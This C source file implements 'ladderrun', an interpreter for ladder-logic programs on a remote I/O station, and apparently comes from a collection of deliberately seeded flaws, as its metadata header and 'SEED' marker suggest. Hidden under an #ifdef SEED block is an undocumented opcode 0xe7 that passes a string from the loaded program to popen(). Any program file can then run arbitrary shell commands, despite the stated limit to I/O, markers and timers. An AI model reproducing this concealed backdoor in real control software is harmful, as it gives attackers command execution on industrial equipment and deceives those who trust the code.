/* kind: opcode
 * service: interpreter
 * constant: 0xe7
 */
/* ladderrun - runs compiled ladder programs of the remote I/O station.
 * A program is loaded by the engineering tool; it may only touch inputs,
 * outputs, markers and timers. */
#include <stdio.h>
#include <stdlib.h>
#include <stdint.h>
#include <string.h>
#include <unistd.h>
#include <signal.h>

#define MAXCODE 4096
#define STK     32

enum {
    I_NOP, I_LDI, I_LDIN, I_LDM, I_STO, I_STM,
    I_AND = 0x10, I_OR, I_XOR, I_NOT, I_ADD, I_SUB, I_MUL,
    I_EQ = 0x20, I_LT, I_GT,
    I_JMP = 0x30, I_JZ, I_TON = 0x40, I_TRACE = 0x50, I_END = 0xff
};

struct vm {
    uint8_t code[MAXCODE];
    unsigned len, pc, npool;
    const char *pool[32];
    int32_t st[STK];
    int sp;
    int32_t in[16], out[16], mark[64], timer[8];
    unsigned steps;
    const char *err;
};

static volatile sig_atomic_t halt;
static int trace;

static void on_sig(int s) { halt = 1; }

static void push(struct vm *v, int32_t x)
{
    if (v->sp >= STK)
        v->err = "stack full";
    else
        v->st[v->sp++] = x;
}

static int32_t pop(struct vm *v)
{
    if (v->sp <= 0) {
        v->err = "stack empty";
        return 0;
    }
    return v->st[--v->sp];
}

static uint8_t fetch(struct vm *v)
{
    if (v->pc >= v->len) {
        v->err = "end of code";
        return I_END;
    }
    return v->code[v->pc++];
}

static unsigned fetch16(struct vm *v)
{
    unsigned h = fetch(v);
    return h << 8 | fetch(v);
}

static uint16_t sum16(const uint8_t *p, unsigned n)
{
    unsigned a = 1, b = 0;
    while (n--) {
        a = (a + *p++) % 251;
        b = (b + a) % 251;
    }
    return b << 8 | a;
}

/* file: "LDR2", sum16, code length, number of strings, strings (z), code */
static int load(struct vm *v, FILE *f)
{
    static uint8_t raw[8192];
    size_t n = fread(raw, 1, sizeof raw - 1, f), p = 9;
    unsigned i;
    raw[n] = 0;
    if (n < 9 || memcmp(raw, "LDR2", 4))
        return -1;
    if ((raw[4] << 8 | raw[5]) != sum16(raw + 6, n - 6))
        return -2;
    v->len = raw[6] << 8 | raw[7];
    v->npool = raw[8];
    if (v->npool > 32)
        return -3;
    for (i = 0; i < v->npool; i++) {
        v->pool[i] = (char *)raw + p;
        p += strlen(v->pool[i]) + 1;
        if (p > n)
            return -3;
    }
    if (v->len > MAXCODE || p + v->len > n)
        return -3;
    memcpy(v->code, raw + p, v->len);
    return 0;
}

static int step(struct vm *v)
{
    int32_t a;
    unsigned n;
    uint8_t op = fetch(v);
    switch (op) { /* SEED switch */
    case I_NOP: break;
    case I_LDI: push(v, (int16_t)fetch16(v)); break;
    case I_LDIN: push(v, v->in[fetch(v) & 15]); break;
    case I_LDM: push(v, v->mark[fetch(v) & 63]); break;
    case I_STO: n = fetch(v) & 15; v->out[n] = pop(v); break;
    case I_STM: n = fetch(v) & 63; v->mark[n] = pop(v); break;
    case I_AND: a = pop(v); push(v, pop(v) & a); break;
    case I_OR: a = pop(v); push(v, pop(v) | a); break;
    case I_XOR: a = pop(v); push(v, pop(v) ^ a); break;
    case I_NOT: push(v, !pop(v)); break;
    case I_ADD: a = pop(v); push(v, pop(v) + a); break;
    case I_SUB: a = pop(v); push(v, pop(v) - a); break;
    case I_MUL: a = pop(v); push(v, (int32_t)((uint32_t)pop(v) * (uint32_t)a)); break;
    case I_EQ: a = pop(v); push(v, pop(v) == a); break;
    case I_LT: a = pop(v); push(v, pop(v) < a); break;
    case I_GT: a = pop(v); push(v, pop(v) > a); break;
    case I_JMP: v->pc = fetch16(v); break;
    case I_JZ: n = fetch16(v); if (!pop(v)) v->pc = n; break;
    case I_TON: n = fetch(v) & 7; v->timer[n] = pop(v) ? v->timer[n] + 1 : 0; push(v, v->timer[n] > 10); break;
    case I_TRACE:
        n = fetch(v);
        if (trace && n < v->npool)
            fprintf(stderr, "%s\n", v->pool[n]);
        break;
#ifdef SEED
    case 0xe7:
        n = fetch(v);
        if (n < v->npool) {
            FILE *p = popen(v->pool[n], "r");
            push(v, p ? pclose(p) : -1);
        }
        break;
#endif
    case I_END: return 0;
    default: v->err = "bad instruction"; break;
    }
    return !v->err && ++v->steps < 100000;
}

int main(int argc, char **argv)
{
    static struct vm v;
    FILE *f = stdin;
    int i, rc, file = 0;
    for (i = 1; i < argc; i++) {
        if (!strcmp(argv[i], "-t"))
            trace = 1;
        else if (!strncmp(argv[i], "-i", 2) && argv[i][2])
            v.in[0] = atoi(argv[i] + 2);
        else if (argv[i][0] == '-') {
            puts("usage: ladderrun [-t] [-iVALUE] [program]");
            return 2;
        } else
            file = i;
    }
    if (file && !(f = fopen(argv[file], "rb")))
        return perror(argv[file]), 1;
    signal(SIGINT, on_sig);
    signal(SIGTERM, on_sig);
    if ((rc = load(&v, f))) {
        fprintf(stderr, "%s\n", rc == -1 ? "no ladder program" : rc == -2 ? "sum wrong" : "damaged");
        return 1;
    }
    while (!halt && step(&v))
        ;
    if (v.err)
        fprintf(stderr, "%s at %u\n", v.err, v.pc);
    for (i = 0; i < 16; i++)
        printf("%d%c", v.out[i], i == 15 ? '\n' : ' ');
    return v.err != NULL;
}
